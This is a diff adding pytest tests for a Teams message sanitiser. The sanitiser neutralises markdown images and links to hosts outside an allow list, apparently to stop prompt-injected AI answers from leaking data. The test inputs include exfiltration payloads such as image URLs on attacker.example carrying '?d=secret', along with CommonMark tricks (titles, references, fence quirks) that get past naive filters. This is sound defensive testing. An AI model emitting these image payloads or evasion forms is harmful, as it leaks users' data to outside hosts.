@@ -99,3 +99,63 @@ async def test_an_injected_answer_reaches_teams_without_images_or_disguised_link
 def test_personal_chat_text_is_defanged_outside_code_only():
     text = teams_message_text(f"![s]({PIXEL})\n\n```\n![s]({PIXEL})\n```\n")
     assert text.count("pixel.png") == 1 and text.index("pixel.png") > text.index("```")
+
+
+@pytest.mark.parametrize(
+    "markdown",
+    [
+        "![[x]](https://attacker.example/p.png?d=secret)",  # brackets in the alt text
+        "![x](https://attacker.example/p.png (title))",  # a title in parentheses
+        "![x]( https://attacker.example/p.png 'title')",  # a title in single quotes
+        "![x](https://attacker.example/p(1).png)",  # parentheses in the URL
+        "[[1]](https://attacker.example/phish)",  # a link dressed as a citation marker
+        "[a](https://cdn.contoso.example/a)![[x]](https://attacker.example/p.png)",  # after an allowed link
+    ],
+)
+def test_every_commonmark_image_or_link_form_to_another_host_is_inert(markdown):
+    teams_text.set_content_hosts(["*.contoso.example"])
+    text = teams_message_text(markdown)
+    assert re.search(r"\]\(\s*<?https://attacker", text) is None, text
+    assert "attacker.example" in text  # shown, not dropped silently
+
+
+def test_an_allowed_host_keeps_its_images_and_links_in_every_link_form():
+    teams_text.set_content_hosts(["*.contoso.example"])
+    kept = "![c](https://cdn.contoso.example/c.png) [[1]](https://www.contoso.example/d) [a](https://x.contoso.example/p(1))"
+    assert no_exfiltration(kept) == kept
+    # An image form the image pattern does not read is made inert even for an allowed host (the safe side:
+    # every `![` not read as an allowed image is escaped); its address stays visible.
+    exotic = no_exfiltration("![[c]](https://cdn.contoso.example/c.png (t))")
+    assert "![" not in exotic and "cdn.contoso.example/c.png" in exotic
+
+
+# Image forms CommonMark (and Teams) render that the image pattern does not read, and fences Teams does not
+# read as code (attack19): each rendered a pixel from attacker.example in a CommonMark renderer.
+COMMONMARK_IMAGES = [
+    "![s](https://attacker.example/p.png?d=(secret))",  # balanced parentheses in the URL
+    f"![s]({PIXEL} 't')",  # single-quoted title
+    f"![s]({PIXEL} (t))",  # parenthesised title
+    f"![a [b] c]({PIXEL})",  # brackets in the alt text
+    f"![a\\]]({PIXEL})",  # escaped bracket in the alt text
+    "![s](<https://attacker.example/p.png?d=a b>)",  # angle destination with a space
+    f"![s][r]\n\n> [r]: {PIXEL}",  # reference defined in a quote
+    f"![s][r]\n\n[r]:\n  {PIXEL}",  # reference with its URL on the next line
+    f"![R][]\n\n> [r]: {PIXEL}",  # collapsed reference
+    f"```\ncode\n````\n![s]({PIXEL})\n```",  # a longer fence closes the block
+    f"Hello\n    ```\n![s]({PIXEL})\n    ```",  # four spaces: paragraph text, not a fence
+    f"``` a`b\n![s]({PIXEL})\n```",  # a backtick in a backtick fence's info string: not a fence
+]
+
+
+@pytest.mark.parametrize("payload", COMMONMARK_IMAGES)
+def test_no_commonmark_image_form_survives(payload):
+    sent = teams_message_text(payload)
+    assert "![" not in sent, sent
+    card_text = no_exfiltration(payload)
+    assert "![" not in card_text or "```" in payload, card_text
+
+
+def test_code_blocks_still_keep_image_syntax_as_written():
+    for fence in ("```", "~~~", "````"):
+        text = teams_message_text(f"{fence}js\nconst ok = ![x](y)\n{fence}\n")
+        assert "const ok = ![x](y)" in text, text
